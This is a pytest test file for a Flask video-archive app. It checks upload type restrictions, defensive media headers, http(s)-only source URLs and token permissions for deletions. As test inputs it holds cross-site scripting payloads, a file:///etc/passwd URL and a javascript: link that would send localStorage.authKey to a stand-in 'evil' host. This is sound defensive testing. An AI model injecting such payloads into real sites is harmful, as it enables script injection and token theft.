"""Issue 12: only media is served from /media, only http(s) source URLs are linked, and only
worker or admin tokens delete."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from patchwork.app import create_app
from patchwork.archive.ingest.info_json import parse_info
from patchwork.archive.media import file_kinds
from patchwork.archive.queue.staging import UploadError, upload_name
from patchwork.config import Settings
from patchwork.db import Database
from patchwork.db.models import Caption, Job, StoredFile, Video
from patchwork.state import app_state
from support.queue_fixtures import Tokens, auth, claim, enqueue, info, upload

URL = "https://www.youtube.com/watch?v=dQw4w9WgXcQ"
CSP = "default-src 'none'; sandbox"


# -- uploads refuse what is not media -----------------------------------------------------------


@pytest.mark.parametrize("ext", ["html", "svg", "xhtml", "js", "htm", "xml", "mjs"])
@pytest.mark.parametrize("kind", ["thumbnail", "video", "captions/en", "channel-avatar"])
def test_upload_of_a_document_type_is_refused(
    client: FlaskClient, tokens: Tokens, kind: str, ext: str
) -> None:
    enqueue(client, tokens.queue, URL)
    job = claim(client, tokens.worker)
    assert job is not None
    r = upload(client, tokens.worker, job["job_id"], kind, b"<script>alert(1)</script>", ext)
    assert r.status_code == 400, r.get_data(as_text=True)
    assert "cannot be ." in r.get_json()["error"]


@pytest.mark.parametrize(
    ("kind", "ext", "stored"),
    [
        ("video", "webm", "webm"),
        ("video", "m4a", "m4a"),
        ("thumbnail", "jpeg", "jpg"),
        ("thumbnail", "gif", "gif"),
        ("captions/en", "srv3", "srv3"),
        ("captions/en", "ass", "ass"),
        ("channel-banner", "png", "png"),
    ],
)
def test_media_uploads_are_accepted(
    client: FlaskClient, tokens: Tokens, kind: str, ext: str, stored: str
) -> None:
    enqueue(client, tokens.queue, URL)
    job = claim(client, tokens.worker)
    assert job is not None
    r = upload(client, tokens.worker, job["job_id"], kind, b"bytes", ext)
    assert r.status_code == 201, r.get_data(as_text=True)
    assert r.get_json()["ext"] == stored


def test_upload_name_checks_the_allow_list() -> None:
    assert upload_name("thumbnail", None, "image/webp") == ("thumbnail", "webp")
    assert upload_name("metadata", None, None) == ("metadata", "info.json")
    with pytest.raises(UploadError, match=r"a thumbnail file cannot be \.webm"):
        upload_name("thumbnail", None, "video/webm")
    with pytest.raises(UploadError):
        upload_name("captions/en", "svg", None)


def test_allow_lists_hold_no_document_types() -> None:
    documents = {"html", "htm", "svg", "svgz", "xhtml", "xht", "js", "mjs", "xml", "xsl", "pdf"}
    for kind in ("video", "thumbnail", "channel-avatar", "captions/en", "metadata"):
        assert not documents & file_kinds.extensions(kind), kind
    with pytest.raises(file_kinds.FileKindError, match="not a kind"):
        file_kinds.check_extension("script", "js")


# -- serving is defensive --------------------------------------------------------------------


def _video_with_file(app: Flask, video_id: str, kind: str, key: str, content_type: str) -> None:
    app_state(app).storage.write_bytes(key, b"<html><script>alert(1)</script></html>")
    with app_state(app).db.transaction() as session:
        session.add(Video(video_id=video_id, title="t", channel_id="UCx", channel_name="x"))
        session.flush()
        session.add(
            StoredFile(
                video_id=video_id,
                kind=kind,
                storage_key=key,
                extension=key.rsplit(".", 1)[-1],
                size_bytes=38,
                content_type=content_type,
            )
        )


@pytest.mark.parametrize(
    ("kind", "path", "key", "recorded"),
    [
        ("thumbnail", "thumbnail", "thumbnails/vidhtml0001.html", "text/html"),
        ("thumbnail", "thumbnail", "thumbnails/vidhtml0001.svg", "image/svg+xml"),
        ("video", "video", "video/vidhtml0001.xhtml", None),
        ("video", "video", "video/vidhtml0001.bin", "text/html"),
        ("metadata", "metadata", "metadata/vidhtml0001.js", None),
    ],
)
def test_an_old_row_of_a_document_type_is_only_a_download(
    app: Flask, client: FlaskClient, kind: str, path: str, key: str, recorded: str | None
) -> None:
    _video_with_file(app, "vidhtml0001", kind, key, recorded or "")
    r = client.get(f"/media/{path}/vidhtml0001")
    assert r.status_code == 200
    assert r.headers["Content-Type"] == "application/octet-stream"
    assert r.headers["Content-Disposition"] == "attachment"
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    assert r.headers["Content-Security-Policy"] == CSP


def test_an_old_caption_row_of_a_document_type_is_only_a_download(
    app: Flask, client: FlaskClient
) -> None:
    _video_with_file(app, "vidcapt0001", "video", "video/vidcapt0001.webm", "video/webm")
    key = "captions/vidcapt0001/vidcapt0001.en.html"
    app_state(app).storage.write_bytes(key, b"<script>alert(1)</script>")
    with app_state(app).db.transaction() as session:
        session.add(Caption(video_id="vidcapt0001", language="en", format="html", storage_key=key))
    r = client.get("/media/captions/vidcapt0001/en?format=html")
    assert r.status_code == 200
    assert r.headers["Content-Type"] == "application/octet-stream"
    assert r.headers["Content-Disposition"] == "attachment"


@pytest.fixture
def cdn_app(settings: Settings) -> Iterator[Flask]:
    app = create_app(replace(settings, media_redirect="public:https://cdn.example"))
    yield app
    app_state(app).db.dispose()


def test_an_old_document_row_is_not_redirected_to_a_cdn(cdn_app: Flask) -> None:
    _video_with_file(
        cdn_app, "vidhtml0002", "thumbnail", "thumbnails/vidhtml0002.html", "text/html"
    )
    r = cdn_app.test_client().get("/media/thumbnail/vidhtml0002")
    assert r.status_code == 200 and r.headers["Content-Disposition"] == "attachment"


def test_media_is_still_served_inline(app: Flask, client: FlaskClient) -> None:
    _video_with_file(app, "vidgood0001", "video", "video/vidgood0001.webm", "video/webm")
    r = client.get("/media/video/vidgood0001", headers={"Range": "bytes=0-3"})
    assert r.status_code == 206
    assert r.headers["Content-Type"] == "video/webm"
    assert "Content-Disposition" not in r.headers
    assert r.headers["Content-Security-Policy"] == CSP
    assert r.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize(
    "path",
    [
        "/media/video/nosuchvideo",
        "/media/captions/nosuchvideo",
        "/media/captions/nosuchvideo/en",
        "/media/channel/UCnone/avatar",
        "/media/not-a-route",
    ],
)
def test_every_media_answer_is_defensive(client: FlaskClient, path: str) -> None:
    r = client.get(path)
    assert r.status_code == 404
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    assert r.headers["Content-Security-Policy"] == CSP


def test_416_is_defensive(app: Flask, client: FlaskClient) -> None:
    _video_with_file(app, "vidgood0002", "video", "video/vidgood0002.webm", "video/webm")
    r = client.get("/media/video/vidgood0002", headers={"Range": "bytes=999-"})
    assert r.status_code == 416 and r.headers["Content-Security-Policy"] == CSP


def test_redirects_are_defensive(cdn_app: Flask) -> None:
    _video_with_file(cdn_app, "vidgood0002", "video", "video/vidgood0002.webm", "video/webm")
    r = cdn_app.test_client().get("/media/video/vidgood0002")
    assert r.status_code == 302 and r.headers["Content-Security-Policy"] == CSP
    assert r.headers["X-Content-Type-Options"] == "nosniff"


def test_the_watch_page_is_not_under_the_media_csp(app: Flask, client: FlaskClient) -> None:
    _video_with_file(app, "vidgood0003", "video", "video/vidgood0003.webm", "video/webm")
    r = client.get("/watch?v=vidgood0003")
    assert r.status_code == 200
    assert r.headers.get("Content-Security-Policy") != CSP


# -- source URLs --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(document.domain)",
        " JavaScript:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox",
        "//evil.example/x",
        "https:evil",
        "file:///etc/passwd",
    ],
)
def test_only_http_source_urls_are_stored(url: str) -> None:
    assert parse_info(info("vid", webpage_url=url)).source_url is None
    assert parse_info(info("vid", webpage_url="", original_url=url)).source_url is None


def test_http_source_urls_are_kept() -> None:
    assert parse_info(info("vid")).source_url == "https://www.youtube.com/watch?v=vid"
    plain = info("vid", webpage_url=None, original_url="http://example.com/v/1")
    assert parse_info(plain).source_url == "http://example.com/v/1"


def test_an_old_javascript_source_url_is_not_linked(app: Flask, client: FlaskClient) -> None:
    with app_state(app).db.transaction() as session:
        session.add(
            Video(
                video_id="vidjs000001",
                title="t",
                channel_id="UCx",
                channel_name="x",
                source_url="javascript:fetch('//evil/'+localStorage.authKey)",
            )
        )
        session.add(
            Video(
                video_id="vidok000001",
                title="t",
                channel_id="UCx",
                channel_name="x",
                source_url="https://example.com/v/1",
            )
        )
    page = client.get("/watch?v=vidjs000001").get_data(as_text=True)
    assert "javascript:" not in page and "Original:" not in page
    good = client.get("/watch?v=vidok000001").get_data(as_text=True)
    assert 'href="https://example.com/v/1"' in good


# -- deletion -----------------------------------------------------------------------------------


def _jobs(db: Database) -> list[tuple[str, int]]:
    with db.reading() as session:
        return [(j.target, j.mode) for j in session.scalars(select(Job))]


def test_a_queue_token_cannot_queue_a_delete(
    client: FlaskClient, tokens: Tokens, db: Database
) -> None:
    r = enqueue(client, tokens.queue, "dQw4w9WgXcQ", mode=2)
    assert r.status_code == 403
    assert "worker or admin" in r.get_json()["error"]
    form = client.post(
        "/api/worker/queue", data={"url": "dQw4w9WgXcQ", "mode": "2"}, headers=auth(tokens.queue)
    )
    assert form.status_code == 403 and form.is_json
    assert _jobs(db) == []


def test_the_portal_delete_route_refuses_a_queue_token(
    client: FlaskClient, tokens: Tokens, db: Database
) -> None:
    r = client.delete(
        "/api/storage/delete", data={"videoId": "dQw4w9WgXcQ"}, headers=auth(tokens.queue)
    )
    assert r.status_code == 403 and r.is_json
    assert _jobs(db) == []


def test_worker_and_admin_tokens_may_delete(
    client: FlaskClient, tokens: Tokens, db: Database
) -> None:
    assert enqueue(client, tokens.admin, "dQw4w9WgXcQ", mode=2).status_code == 201
    r = client.delete(
        "/api/storage/delete", data={"videoId": "aaaaaaaaaa1"}, headers=auth(tokens.worker)
    )
    assert r.status_code == 200, r.get_data(as_text=True)
    assert sorted(_jobs(db)) == [("video:aaaaaaaaaa1", 2), ("video:dQw4w9WgXcQ", 2)]


def test_a_queue_token_still_queues_and_re_archives(
    client: FlaskClient, tokens: Tokens, db: Database
) -> None:
    assert enqueue(client, tokens.queue, URL, mode=1).status_code == 201
